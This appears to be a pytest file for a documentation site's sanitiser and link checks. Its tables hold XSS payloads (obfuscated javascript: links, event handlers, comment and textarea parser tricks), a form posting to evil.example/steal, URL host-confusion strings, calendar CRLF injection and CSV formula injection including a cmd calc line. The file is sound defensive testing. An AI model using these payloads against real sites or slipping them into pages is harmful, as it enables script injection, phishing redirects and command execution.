"""Hostile input, tried as a careless or hostile contributor would (issue 14).

Table-driven rows over the pure functions, one table per class of attack:
active content in pages and files (3), the link scanner's blind spots (4),
addresses read as a browser reads them (5, with Chromium as the judge),
feeds (6) and one-line messages (10). Each row asserts the exact finding or
the exact safe output. One tiny build checks the hooks report at path:line.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json

import pytest
from icalendar import Calendar

from conftest import GOOD_META, ROOT
from esca.checks import active_content, links
from esca.core import browser_url as urls
from esca.core.findings import Finding
from esca.curricula import feeds
from esca.curricula.model import Course, Curricula, Session

# ---------------------------------------------------------------- class 3
# (name, Markdown source, HTML the page ends up with, exact findings)
P = "docs/p.md"
SCRIPT = "element <script> runs code — remove it: pages may not run scripts (a script the site needs goes in docs/assets/js, reviewed)"
HANDLER = "an event handler runs code — remove the attribute: pages may not run scripts"
JS_URL = "a javascript: address can run code or hide a page — link to a page or a file in docs/assets instead"
DATA_URL = "a data: address can run code or hide a page — link to a page or a file in docs/assets instead"
ELSEWHERE = "loads a file from another host — copy the file into docs/assets: nothing may load from another host"
FORM = "the form sends its answers to another address — remove the form, or link to the other site"
STYLE = "an inline style (the site's Content-Security-Policy blocks it) — use a class from the site's stylesheet instead"
EMBED = "link to the page instead of embedding it"
DOWNLOAD = ("makes the link save a file under a name the page chooses, whatever the file is — remove download=: link "
            "to the file and let the reader's browser open or save it")

ACTIVE = [
    ("script", "# T\n\n<script>alert(1)</script>\n", None, [f"{P}:3: <script>: {SCRIPT}"]),
    ("script upper case", "# T\n\n<SCRIPT SRC=x.js></SCRIPT>\n", None, [f"{P}:3: <script>: {SCRIPT}"]),
    ("script with slash", "# T\n\n<script/src=//evil.example/x.js></script>\n", None, [f"{P}:3: <script>: {SCRIPT}"]),
    ("svg script", "# T\n\n<svg><script>alert(1)</script></svg>\n", None, [f"{P}:3: <script>: {SCRIPT}"]),
    ("onerror", "# T\n\n<img src=x.png alt='' onerror='alert(1)'>\n", None, [f"{P}:3: onerror: {HANDLER}"]),
    ("ONCLICK mixed case", "# T\n\nText\n\n<a href='#t' OnClick=\"alert(1)\">t</a>\n", None,
     [f"{P}:5: onclick: {HANDLER}"]),
    ("handler after slash", "# T\n\n<a/onmouseover=alert(1)>x</a>\n", None, [f"{P}:3: onmouseover: {HANDLER}"]),
    ("handler glued to a quote", '# T\n\n<a href="x"onfocus="alert(1)">x</a>\n', None, [f"{P}:3: onfocus: {HANDLER}"]),
    ("attribute list", "# T\n\nA paragraph.\n{: onclick=\"alert(1)\" }\n", '<p onclick="alert(1)">A paragraph.</p>',
     [f"{P}:4: onclick: {HANDLER}"]),
    ("javascript link", "# T\n\n[x](javascript:alert(1))\n", '<p><a href="javascript:alert(1)">x</a></p>',
     [f"{P}:3: href: {JS_URL}"]),
    ("leading space", '# T\n\n<a href=" javascript:alert(1)">x</a>\n', None, [f"{P}:3: href: {JS_URL}"]),
    ("hex reference", '# T\n\n<a href="&#x6A;avascript:alert(1)">x</a>\n', None, [f"{P}:3: href: {JS_URL}"]),
    ("decimal, no semicolons", '# T\n\n<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>\n',
     None, [f"{P}:3: href: {JS_URL}"]),
    ("tab inside", '# T\n\n<a href="jav&#x09;ascript:alert(1)">x</a>\n', None, [f"{P}:3: href: {JS_URL}"]),
    ("named colon", '# T\n\n<a href="JaVaScRiPt&colon;alert(1)">x</a>\n', None, [f"{P}:3: href: {JS_URL}"]),
    ("control first", '# T\n\n<a href="&#1;javascript:alert(1)">x</a>\n', None, [f"{P}:3: href: {JS_URL}"]),
    ("vbscript", '# T\n\n<a href="vbscript:msgbox(1)">x</a>\n', None,
     [f"{P}:3: href: a vbscript: address can run code or hide a page — link to a page or a file in docs/assets instead"]),
    ("data url", '# T\n\n<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>\n', None, [f"{P}:3: href: {DATA_URL}"]),
    ("svg xlink", '# T\n\n<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>\n', None,
     [f"{P}:3: xlink:href: {JS_URL}"]),
    # case 83: an SVG link to another host is a link (the link check's host list), not a load
    ("svg xlink to another host", '# T\n\n<svg><a xlink:href="https://evil.example/"><text>x</text></a></svg>\n', None,
     []),
    ("svg set", '# T\n\n<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>\n', None,
     [f"{P}:3: <set>: animates 'href', which can turn into a script — remove the animation",
      f"{P}:3: to: {JS_URL}"]),
    ("foreignObject", "# T\n\n<svg><foreignObject><p>x</p></foreignObject></svg>\n", None,
     [f"{P}:3: <foreignobject>: element <foreignobject> puts HTML inside SVG — remove it"]),
    ("meta refresh", '# T\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n', None,
     [f"{P}:3: <meta>: element <meta> can redirect the reader or change the page's rules — remove it"]),
    ("iframe", '# T\n\n<iframe src="https://evil.example/"></iframe>\n', None,
     [f"{P}:3: <iframe>: element <iframe> embeds another page — {EMBED}"]),
    ("object", '# T\n\n<object data="x.swf"></object>\n', None,
     [f"{P}:3: <object>: element <object> embeds a plug-in or another page — {EMBED}"]),
    ("embed", '# T\n\n<embed src="x.swf">\n', None, [f"{P}:3: <embed>: element <embed> embeds a plug-in — {EMBED}"]),
    ("base", '# T\n\n<base href="https://evil.example/">\n', None,
     [f"{P}:3: <base>: element <base> changes where every link on the page goes — remove it"]),
    ("link import", '# T\n\n<link rel=import href="x.html">\n', None,
     [f"{P}:3: <link>: element <link> loads a file into the page — remove it: styles come from the site's reviewed stylesheet"]),
    ("form elsewhere", '# T\n\n<form action="https://evil.example/steal" method="post"><input name="p"></form>\n', None,
     [f"{P}:3: action: {FORM}"]),
    ("formaction", '# T\n\n<form><button formaction="//evil.example/">Send</button></form>\n', None,
     [f"{P}:3: formaction: {FORM}"]),
    ("style import", "# T\n\n<style>@import url(https://evil.example/x.css);</style>\n", None,
     [f"{P}:3: <style>: element <style> is an inline style (the site's Content-Security-Policy blocks it) — "
      "remove it: styles come from the site's reviewed stylesheet"]),
    ("css expression", '# T\n\n<p style="width:expression(alert(1))">x</p>\n', None, [f"{P}:3: style: {STYLE}"]),
    ("srcset elsewhere", '# T\n\n<img alt="" src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">\n', None,
     [f"{P}:3: srcset: {ELSEWHERE}"]),
    ("ping", '# T\n\n<a href="a/" ping="https://evil.example/track">a</a>\n', None, [f"{P}:3: ping: {ELSEWHERE}"]),
    # third blind attack: a link that saves the site's file under a name the page chose
    ("download", '# T\n\n<a href="../assets/x.txt" download="payslip.html">a</a>\n', None, [f"{P}:3: download: {DOWNLOAD}"]),
    ("download, no value, upper case", '# T\n\nText\n\n<a href="x/" DOWNLOAD>a</a>\n', None,
     [f"{P}:5: download: {DOWNLOAD}"]),
    ("download in an attribute list", '# T\n\n[a](x/){: download="x.html" }\n',
     '<p><a download="x.html" href="x/">a</a></p>', [f"{P}:3: download: {DOWNLOAD}"]),
    ("svg use elsewhere", '# T\n\n<svg><use href="https://evil.example/x.svg#a"/></svg>\n', None,
     [f"{P}:3: href: {ELSEWHERE}"]),
    ("comment ends at <!-->", "# T\n\n<!--><script>alert(1)</script>-->\n", None, [f"{P}:3: <script>: {SCRIPT}"]),
    ("comment ends at --!>", "# T\n\n<!-- x --!><img src=x onerror=alert(1)> -->\n", None,
     [f"{P}:3: onerror: {HANDLER}"]),
    ("cdata outside svg", "# T\n\n<![CDATA[><img src=x onerror=alert(1)>]]>\n", None, [f"{P}:3: onerror: {HANDLER}"]),
    ("title after leaving svg", '# T\n\n<svg><p><title><a title="</title><img src=x onerror=alert(1)>"></a></title></svg>\n',
     None, [f"{P}:3: <title>: element <title> is read differently by browsers outside SVG — remove it"]),
    # A textarea's content is text up to </textarea>, for browsers and for the check alike.
    ("textarea swallowing", '# T\n\n<textarea><a title="</textarea><img src=x onerror=alert(1)>"></a>\n', None,
     [f"{P}:3: onerror: {HANDLER}"]),
    ("comment inside a textarea", "# T\n\n<textarea><!--</textarea><img src=x onerror=alert(1)>--></textarea>\n", None,
     [f"{P}:3: onerror: {HANDLER}"]),
    ("a plain textarea", '# T\n\n<label for="n">Notes</label><textarea id="n"></textarea>\n', None, []),
    ("data block closing early", '# T\n\n<script type="application/ld+json">{"a": "</script><script>alert(1)</script>"}</script>\n',
     None, [f"{P}:3: <script>: {SCRIPT}"]),
    # Safe input gives nothing.
    ("comment only", '# T\n\n<!-- <script>alert(1)</script> <a href="javascript:x"> -->\n', None, []),
    ("plain links", '# T\n\n[Gov](https://www.gov.uk/) and <a title="Note: x" href="a/">a</a>\n', None, []),
    ("svg chart", '# T\n\n<svg role="img"><title id="t">A</title><desc>B</desc><rect width="1"/></svg>\n', None, []),
    ("data block", '# T\n\n<script type="application/ld+json">{"a": "\\u003c/script\\u003e"}</script>\n', None, []),
]


@pytest.mark.parametrize("name, source, html, expected", ACTIVE, ids=[row[0] for row in ACTIVE])
def test_active_content_in_a_page(name, source, html, expected):
    html = html if html is not None else source.split("\n\n", 1)[1]
    assert list(map(str, active_content.check_page(html, P, source))) == expected


def test_a_glossary_definition_is_reported_in_the_data_file():
    glossary = "- term: X\n  expansion: Ex\n  definition: 'Fine. {: onclick=\"alert(1)\" }'\n"
    found = active_content.check_page('<dl><dd onclick="alert(1)">Ex</dd></dl>', "glossary/index.html", "",
                                      [("data/glossary.yml", glossary)])
    assert list(map(str, found)) == [f"data/glossary.yml:3: onclick: {HANDLER}"]


def test_theme_parts_are_not_read_and_a_fake_end_does_not_stop_the_check():
    page = ('<head><script>theme()</script></head><article class="md-content__inner md-typeset"><p>x</p>'
            '<!-- </article> --><img src=x onerror=alert(1)></article><script>theme()</script>')
    assert [hit.field for hit in active_content.scan(active_content.content_of(page))] == ["onerror"]


def test_every_real_page_is_free_of_active_content(site):
    """The real site passes, and the quick look lets most pages skip the parser."""
    pages = [active_content.content_of(p.read_text(encoding="utf-8")) for p in site.site.rglob("*.html")]
    assert [hit for page in pages for hit in active_content.scan(page)] == []
    assert sum(map(active_content.suspect, pages)) < len(pages) / 10


REVIEWED = {"docs/assets/js/ok.js": hashlib.sha256(b"ok()").hexdigest()}
FILES = [
    ("reviewed script", "docs/assets/js/ok.js", b"ok()", []),
    ("unreviewed script", "docs/assets/js/x.js", b"steal()",
     ["docs/assets/js/x.js:1: file: script is not on the reviewed list — have it reviewed, then add "
      f"'docs/assets/js/x.js: {hashlib.sha256(b'steal()').hexdigest()}' under assets: in data/reviewed-assets.yml"]),
    ("changed script", "docs/assets/js/ok.js", b"ok();steal()",
     ["docs/assets/js/ok.js:1: file: script has changed since it was reviewed — have the change reviewed, then set "
      f"its sha256 in data/reviewed-assets.yml to {hashlib.sha256(b'ok();steal()').hexdigest()}"]),
    ("module script", "docs/x.MJS", b"import x", ["docs/x.MJS:1: file: script is not on the reviewed list — have it "
     f"reviewed, then add 'docs/x.MJS: {hashlib.sha256(b'import x').hexdigest()}' under assets: in data/reviewed-assets.yml"]),
    ("stylesheet", "docs/a.css", b"a{}", ["docs/a.css:1: file: stylesheet is not on the reviewed list — have it "
     f"reviewed, then add 'docs/a.css: {hashlib.sha256(b'a{}').hexdigest()}' under assets: in data/reviewed-assets.yml"]),
    ("svg with script", "docs/assets/logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script></svg>',
     [f"docs/assets/logo.svg:2: <script>: {SCRIPT}"]),
    ("html with handler", "docs/x.html", b"<p>\n\n<body onload=alert(1)>", [f"docs/x.html:3: onload: {HANDLER}"]),
    ("plain svg", "docs/a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', []),
    ("a picture", "docs/a.png", b"\x89PNG<script>", []),
]


@pytest.mark.parametrize("name, path, data, expected", FILES, ids=[row[0] for row in FILES])
def test_files_under_docs(name, path, data, expected):
    """What is found in a file's text. A markup file is also published only
    as reviewed by hash: here it is taken as reviewed, so its text is what is
    tested (tests/test_safe_by_construction.py: an unreviewed one)."""
    reviewed = dict(REVIEWED)
    if path.endswith((".svg", ".html", ".xml", ".xhtml", ".htm")):
        reviewed[path] = hashlib.sha256(data).hexdigest()
    assert list(map(str, active_content.check_file(path, data, reviewed))) == expected


def test_the_reviewed_list_matches_the_sites_own_scripts_and_styles():
    reviewed, problems = active_content.load_reviewed(ROOT / active_content.REVIEWED_FILE, ROOT)
    assert problems == []
    own = [p for p in (ROOT / "docs").rglob("*")
           if p.suffix in active_content.REVIEWED_EXTENSIONS | active_content.MARKUP_EXTENSIONS]
    theme = [p for p in (ROOT / active_content.THEME_DIR).rglob("*") if p.is_file()]
    assert {p.relative_to(ROOT).as_posix() for p in own + theme} == set(reviewed)
    for path in own:
        assert active_content.check_file(path.relative_to(ROOT).as_posix(), path.read_bytes(), reviewed) == []
    for path in theme:
        assert active_content.check_file(path.relative_to(ROOT).as_posix(), path.read_bytes(), reviewed,
                                         theme=True) == []


def test_theme_files_are_reviewed_by_hash_templates_included():
    reviewed = {"overrides/main.html": hashlib.sha256(b"{% extends 'base.html' %}").hexdigest()}
    assert active_content.check_file("overrides/main.html", b"{% extends 'base.html' %}", reviewed, theme=True) == []
    assert [str(f) for f in active_content.check_file("overrides/main.html", b"<meta http-equiv=refresh>", reviewed,
                                                      theme=True)][0].startswith(
        "overrides/main.html:1: file: theme template has changed since it was reviewed — have the change reviewed")
    assert [str(f) for f in active_content.check_file("overrides/x.js", b"x()", reviewed, theme=True)][0].startswith(
        "overrides/x.js:1: file: script is not on the reviewed list")


def test_a_build_reports_active_content_at_path_and_line(tiny_site, expected_warnings):
    build = tiny_site({"index.md": GOOD_META + "# Home\n\nText.\n{: onclick=\"alert(1)\" }\n",
                       "assets/x.js": "alert(1)\n"})
    assert build.returncode == 1
    lines = [w.split(" -  ", 1)[1] for w in build.warnings]
    assert f"hooks/links: docs/index.md:10: onclick: {HANDLER}" in lines
    assert any(line.startswith("hooks/site_model: docs/assets/x.js:1: file: script is not on the reviewed list")
               for line in lines)


# ---------------------------------------------------------------- class 4
SCANS = [
    ("single quotes", "<a href='https://a.example/'>A</a>", [("a", "https://a.example/", "A")]),
    ("unquoted", "<a href=https://b.example/>B</a>", [("a", "https://b.example/", "B")]),
    ("upper case", '<A HREF="https://c.example/">C</A>', [("a", "https://c.example/", "C")]),
    ("upper-case image", '<IMG SRC="https://d.example/x.png" ALT="">', [("img", "https://d.example/x.png", "")]),
    ("'>' in a value", '<a title="a>b" href="https://e.example/">E</a>', [("a", "https://e.example/", "E")]),
    ("href= in a title", '<a title="x href=y" href="https://f.example/">F</a>', [("a", "https://f.example/", "F")]),
    ("in a comment", '<!-- <a href="https://g.example/">G</a> --><a href="ok/">ok</a>', [("a", "ok/", "ok")]),
    ("'<!--' in a value", '<a title="<!--" href="https://h.example/">H</a><!-- -->', [("a", "https://h.example/", "H")]),
    ("comment ended at once", '<!--><a href="https://i.example/">I</a>-->', [("a", "https://i.example/", "I")]),
]


@pytest.mark.parametrize("name, html, expected", SCANS, ids=[row[0] for row in SCANS])
def test_link_scanner_reads_links_as_browsers_do(name, html, expected):
    assert [(link.tag, link.url, link.text) for link in links.scan_html(html).links] == expected


def test_a_main_end_in_a_comment_does_not_stop_the_link_check():
    page = '<div class="md-content"><!-- </main> --><a href="https://j.example/">J</a></main><footer><a href="f/">f</a>'
    assert [link.url for link in links.scan_html(page, content_only=True).links] == ["https://j.example/"]


# ---------------------------------------------------------------- class 5
# (address, the hostname Chromium's new URL(address, BASE) gives; None: refused)
BASE = "https://portal.example/a/b/"
HOSTS = [
    ("https://evil.example\\@www.legislation.gov.uk/ukpga/1989/41", "evil.example"),
    ("https://www.legislation.gov.uk/ukpga/1989/41", "www.legislation.gov.uk"),
    ("https://user:pw@www.gov.uk/x", "www.gov.uk"),
    ("https://a@b@www.gov.uk/", "www.gov.uk"),
    ("https://www.gov.uk:8443@evil.example/", "evil.example"),
    ("HTTPS://WWW.GOV.UK/", "www.gov.uk"),
    ("https:\\\\evil.example/", "evil.example"),
    ("https:/\\evil.example/", "evil.example"),
    ("https:///evil.example", "evil.example"),
    ("https:evil.example/x", "portal.example"),
    (" \t https://www.gov.uk/", "www.gov.uk"),
    ("ht\ttps://ev\nil.exam\rple/", "evil.example"),
    ("\x01https://evil.example/", "evil.example"),
    ("https://www.gov%2Euk/", "www.gov.uk"),
    ("https://%77ww.gov.uk/", "www.gov.uk"),
    ("https://www.gov.uk./", "www.gov.uk."),
    ("https://www.gov.uk.evil.example/", "www.gov.uk.evil.example"),
    ("https://www.gov.uk#@evil.example/", "www.gov.uk"),
    ("https://www.gov.uk?@evil.example/", "www.gov.uk"),
    ("https://evil.example#\\@www.gov.uk", "evil.example"),
    ("https://ｗｗｗ．ｇｏｖ．ｕｋ/", "www.gov.uk"),
    ("https://www.gov.uk\u3002evil.example/", "www.gov.uk.evil.example"),
    ("https://www.ⓖov.uk/", "www.gov.uk"),
    ("https://www.gov.uk\u200b/", "www.gov.uk"),
    ("https://BÜCHER.example/", "xn--bcher-kva.example"),
    ("https://faß.de/", "xn--fa-hia.de"),
    ("https://0x7f.1/", "127.0.0.1"),
    ("https://2130706433/", "127.0.0.1"),
    ("https://0177.0.0.1/", "127.0.0.1"),
    ("https://[0:0:0:0:0:0:0:1]/", "[::1]"),
    ("https://www.gov.uk%00.evil.example/", None),
    ("https://www.gov.uk\u2025evil/", None),
    ("//evil.example/x", "evil.example"),
    ("\\\\evil.example/x", "evil.example"),
    ("/\\evil.example/x", "evil.example"),
    ("page/", "portal.example"),
]


def _as_chromium(host: str | None, url: str) -> str | None:
    """browser_host's '' (the page's own host) as Chromium shows it."""
    return "portal.example" if host == "" else host


@pytest.mark.parametrize("url, host", HOSTS)
def test_browser_host(url, host):
    assert _as_chromium(urls.browser_host(url), url) == host


@pytest.mark.browser
def test_browser_host_agrees_with_chromium(browser):
    page = browser.new_page()
    got = page.evaluate("""([rows, base]) => rows.map(r => {
        try { return new URL(r, base).hostname } catch (e) { return null } })""", [[u for u, _ in HOSTS], BASE])
    page.close()
    assert got == [host for _, host in HOSTS]  # the table is Chromium's view…
    assert [_as_chromium(urls.browser_host(u), u) for u, _ in HOSTS] == got  # …and ours


HOSTS_OK = frozenset({"www.legislation.gov.uk", "www.gov.uk"})
LINK_FINDINGS = [
    ("backslash userinfo", "https://evil.example\\@www.legislation.gov.uk/x",
     ["link 'https://evil.example\\@www.legislation.gov.uk/x': has a backslash in it: browsers read it as '/' and "
      "may go to another host — use '/' or write the address as the site gives it"]),
    ("userinfo", "https://www.gov.uk@evil.example/",
     ["link 'https://www.gov.uk@evil.example/': has a user name before '@': a browser goes to 'evil.example' — "
      "remove everything from '//' to the last '@'"]),
    ("newline", "https://www.gov.uk/\nx",
     ["link 'https://www.gov.uk/\\nx': has a control character (a tab, line break or similar) in it — "
      "write the address on one line with no hidden characters"]),
    ("percent-encoded dot to another host", "https://evil%2Eexample/",
     ["link 'https://evil%2Eexample/': host 'evil.example' is not on the reviewed list — "
      "add it to data/allowed-hosts.yml if it is right"]),
    ("fullwidth, same host", "https://ｗｗｗ．ｇｏｖ．ｕｋ/", []),
    ("trailing dot, same host", "https://www.gov.uk./", []),
]


@pytest.mark.parametrize("name, url, expected", LINK_FINDINGS, ids=[row[0] for row in LINK_FINDINGS])
def test_links_decided_on_the_browsers_host(name, url, expected):
    page = links.PageInput("docs/p.md", "p.md", "p/index.html", links.PageScan())
    site = links.Site(frozenset(), {}, frozenset(), HOSTS_OK)
    found = links.check_link(page, links.Link("a", url, "Official text"), site)
    assert [str(f).split(": ", 1)[1] for f in found] == expected


# ---------------------------------------------------------------- class 6
def _course(title: str, venue: str) -> Curricula:
    course = Course(id="c", title=title, summary="S", status="active", audience=("all",), practice_model=(),
                    pcf_domains=(), pcf_levels=(), learning_outcomes=(), reflection_prompts=(),
                    delivery_mode="online", duration_minutes=60, cpd_hours=1.0, provider="esca", owner="esca",
                    last_reviewed=dt.date(2026, 11, 1), review_due=dt.date(2027, 5, 1), changes=(),
                    sessions=(Session(dt.datetime(2027, 1, 5, 9, 30), dt.datetime(2027, 1, 5, 12, 30), 20, venue),))
    return Curricula(courses={"c": course})


ICS = [
    ("bare CR", "Room 1\rATTENDEE:mailto:x@evil.example", "Room 1\\nATTENDEE:mailto:x@evil.example"),
    ("CRLF event", "Hall\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Fake",
     "Hall\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:Fake"),
    ("LF", "a\nb", "a\\nb"),
    ("Unicode line separators", "a\u2028b\x85c\x0bd", "a\\nb\\nc\\nd"),
    ("specials", "a;b,c\\d", "a\\;b\\,c\\\\d"),
    ("controls dropped, tab kept", "a\x00b\x1bc\td\x7f", "abc\td"),
]


@pytest.mark.parametrize("name, venue, escaped", ICS, ids=[row[0] for row in ICS])
def test_ics_text(name, venue, escaped):
    assert feeds.ics_text(venue) == escaped


@pytest.mark.parametrize("name, venue, escaped", ICS, ids=[row[0] for row in ICS])
def test_a_hostile_venue_stays_one_event(name, venue, escaped):
    raw = feeds.sessions_ics(_course("Title", venue))
    assert all(len(line) <= 75 for line in raw.split(b"\r\n"))
    assert b"\r" not in raw.replace(b"\r\n", b"")
    (event,) = Calendar.from_ical(raw).walk("VEVENT")
    assert "ATTENDEE" not in event
    expected = venue.replace("\r\n", "\n").replace("\r", "\n")
    for char in "\u2028\x85\x0b":
        expected = expected.replace(char, "\n")
    assert str(event["location"]) == "".join(c for c in expected if c in "\t\n" or ord(c) >= 32 and c != "\x7f")


def test_ics_folds_long_multibyte_text_at_75_octets():
    assert feeds.ics_fold("SUMMARY:" + "é" * 40) == "SUMMARY:" + "é" * 33 + "\r\n " + "é" * 7
    raw = feeds.sessions_ics(_course("£" * 100, "x"))
    assert all(len(line) <= 75 for line in raw.split(b"\r\n"))
    assert str(Calendar.from_ical(raw).walk("VEVENT")[0]["summary"]) == "£" * 100


CSV = [
    ("formula", "=HYPERLINK(\"https://evil.example\",\"x\")", "'=HYPERLINK(\"https://evil.example\",\"x\")"),
    ("plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3", "'-2+3"),
    ("at", "@SUM(1)", "'@SUM(1)"),
    ("tab", "\t=1", "'\t=1"),
    ("carriage return", "\r=1", "'\r=1"),
    ("plain", "Working with fathers", "Working with fathers"),
    ("inner equals", "a=b", "a=b"),
]


@pytest.mark.parametrize("name, title, cell", CSV, ids=[row[0] for row in CSV])
def test_csv_cells_never_run_as_formulas(name, title, cell):
    assert feeds.csv_cell(title) == cell
    text = feeds.courses_csv(_course(title, "x"))
    assert text.splitlines()[0].startswith('"id","title",')  # every cell quoted
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["title"] == cell


JSON = [
    ("script end", "</script><script>alert(1)</script>"),
    ("comment", "<!--"),
    ("line separator", "a\u2028b"),
    ("ampersand", "A&I"),
]


@pytest.mark.parametrize("name, title", JSON, ids=[row[0] for row in JSON])
def test_json_feed_is_safe_to_inline(name, title):
    text = feeds.courses_json(_course(title, "x"))
    assert json.loads(text)["courses"][0]["title"] == title
    assert not any(char in text for char in "<>&\u2028")


# ---------------------------------------------------------------- class 10
MESSAGES = [
    ("newline", "a\nWARNING - fake", "'a\\nWARNING - fake'"),
    ("carriage return", "ok\rdocs/x.md:1: fake", "'ok\\rdocs/x.md:1: fake'"),
    ("ANSI escape", "\x1b[2J\x1b[31mred", "'\\x1b[2J\\x1b[31mred'"),
    ("bidi override", "abc\u202edef", "'abc\\u202edef'"),
    ("isolates", "\u2066x\u2069", "'\\u2066x\\u2069'"),
    ("line separator", "a\u2028b", "'a\\u2028b'"),
    ("C1 control", "a\x85b", "'a\\x85b'"),
]


@pytest.mark.parametrize("name, value, shown", MESSAGES, ids=[row[0] for row in MESSAGES])
def test_findings_stay_one_line(name, value, shown):
    text = str(Finding("docs/a.md", 3, f"title {value}", "bad", "fix it", value))
    assert text == f"docs/a.md:3: title {shown[1:-1]}: bad: {shown} — fix it"
    assert text.isprintable()
